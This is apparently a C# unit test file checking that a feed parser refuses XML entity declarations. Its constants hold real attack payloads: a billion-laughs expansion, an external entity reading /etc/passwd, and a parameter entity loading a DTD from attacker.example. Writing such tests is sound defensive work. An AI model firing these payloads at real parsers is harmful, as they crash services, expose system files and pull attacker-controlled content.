using System.Text;
using FeedHub.Parsing;
using FeedHub.Testing;

namespace FeedHub.Core.Tests.Parsing;

/// <summary>Entity declarations never reach the XML parser; a plain RSS 0.91 DOCTYPE is harmless and accepted.</summary>
public sealed class DtdGuardTests
{
    private static readonly Uri FeedUrl = new("https://feeds.example/feed");

    private const string BillionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE rss [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
        ]>
        <rss version="2.0"><channel><title>&lol6;</title><item><title>x</title></item></channel></rss>
        """;

    private const string ExternalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
        <rss version="2.0"><channel><title>&secret;</title></channel></rss>
        """;

    private const string ParameterEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
        <rss version="2.0"><channel><title>t</title></channel></rss>
        """;

    private const string CommentBeforeDoctype = """
        <?xml version="1.0"?>
        <!-- generator: test -->
        <!DOCTYPE rss [<!ENTITY x "y">]>
        <rss version="2.0"><channel><title>&x;</title></channel></rss>
        """;

    private const string EntityWithoutDoctype = """
        <?xml version="1.0"?>
        <!ENTITY x "y">
        <rss version="2.0"><channel><title>&x;</title></channel></rss>
        """;

    [Theory]
    [InlineData("billion laughs", BillionLaughs)]
    [InlineData("external entity", ExternalEntity)]
    [InlineData("parameter entity", ParameterEntity)]
    [InlineData("comment before the doctype", CommentBeforeDoctype)]
    [InlineData("entity without a doctype", EntityWithoutDoctype)]
    public void Parse_RefusesEntityDeclarations(string attack, string xml)
    {
        var parse = () => FeedParser.Parse(Encoding.UTF8.GetBytes(xml), "application/rss+xml", FeedUrl);

        parse.Should().Throw<FeedParseException>(attack).WithMessage("*refused*");
    }

    [Fact]
    public void Parse_AcceptsThePlainRss091Doctype_AndItsHtmlEntities()
    {
        var feed = FeedParser.Parse(FixtureFiles.Bytes("real-feeds", "codehollow", "Rss091FullSample.xml"), null, FeedUrl);
        var xml = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>Caf&eacute; &amp; Cr&egrave;me &hellip;</title><link>https://x.example/</link><description>d</description>
            <item><title>Na&iuml;ve</title><link>https://x.example/1</link></item></channel></rss>
            """;

        var withEntities = FeedParser.Parse(Encoding.UTF8.GetBytes(xml), null, FeedUrl);

        feed.Title.Should().Be("Scripting News");
        withEntities.Title.Should().Be("Café & Crème …");
        withEntities.Items.Single().Title.Should().Be("Naïve");
    }

    [Fact]
    public void Parse_AcceptsAnArticleThatTalksAboutEntities()
    {
        var xml = """
            <rss version="2.0"><channel><title>XML tips</title>
            <item><title>Beware of entity declarations</title><description><![CDATA[<p>Never parse <code><!DOCTYPE x [<!ENTITY a "b">]></code> blindly.</p>]]></description></item>
            </channel></rss>
            """;

        var feed = FeedParser.Parse(Encoding.UTF8.GetBytes(xml), null, FeedUrl);

        feed.Items.Single().Title.Should().Be("Beware of entity declarations");
        feed.Items.Single().SummaryHtml.Should().Contain("<!ENTITY a \"b\">");
    }

    [Theory]
    [InlineData(100)]
    [InlineData(3000)]
    [InlineData(10000)]
    public void Parse_FindsTheDoctypeBehindALongProlog(int commentLength)
    {
        var xml = $"<?xml version=\"1.0\"?>\n<!-- {new string('c', commentLength)} -->\n"
            + "<!DOCTYPE rss [<!ENTITY x \"y\">]><rss version=\"2.0\"><channel><title>&x;</title></channel></rss>";
        var clean = xml.Replace("<!DOCTYPE rss [<!ENTITY x \"y\">]>", "", StringComparison.Ordinal).Replace("&x;", "ok", StringComparison.Ordinal);

        var parse = () => FeedParser.Parse(Encoding.UTF8.GetBytes(xml), null, FeedUrl);

        parse.Should().Throw<FeedParseException>().WithMessage("*refused*");
        FeedParser.Parse(Encoding.UTF8.GetBytes(clean), null, FeedUrl).Title.Should().Be("ok");
    }
}
